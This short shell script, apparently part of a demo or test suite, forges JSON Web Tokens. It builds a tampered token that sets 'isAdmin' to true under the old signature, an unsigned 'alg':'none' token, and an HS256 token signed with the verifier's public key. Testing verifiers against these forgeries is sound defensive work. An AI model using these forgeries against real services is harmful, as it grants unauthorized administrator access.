# Tokens that nobody should believe, made from a good one with openssl.
# Sourced by demo/run.
# shellcheck shell=sh

b64u() {
    base64 | tr -d '=\n' | tr '+/' '-_'
}

unb64u() {
    text=$(tr -- '-_' '+/')
    while [ $((${#text} % 4)) != 0 ]; do
        text=$text=
    done
    printf '%s' "$text" | base64 -d
}

payload_of() {
    payload=${1#*.}
    printf '%s' "${payload%.*}"
}

# the payload says admin now, the signature is the old one
forge_tampered() {
    payload=$(payload_of "$1" | unb64u \
        | sed 's/"isAdmin":false/"isAdmin":true/' | b64u)

    printf '%s.%s.%s' "${1%%.*}" "$payload" "${1##*.}"
}

# an unsecured JWT of RFC 7519, section 6
forge_none() {
    printf '%s.%s.' "$(printf '{"alg":"none","typ":"JWT"}' | b64u)" \
        "$(payload_of "$1")"
}

# A verifier that lets the token choose the algorithm takes its public key, which
# is no secret, for the secret of an HMAC.
forge_hs256() {
    text=$(printf '{"alg":"HS256","typ":"JWT"}' | b64u).$(payload_of "$1")
    key=$(od -An -v -tx1 "$2" | tr -d ' \n')

    printf '%s.%s' "$text" "$(printf '%s' "$text" \
        | openssl dgst -sha256 -mac HMAC -macopt "hexkey:$key" -binary | b64u)"
}
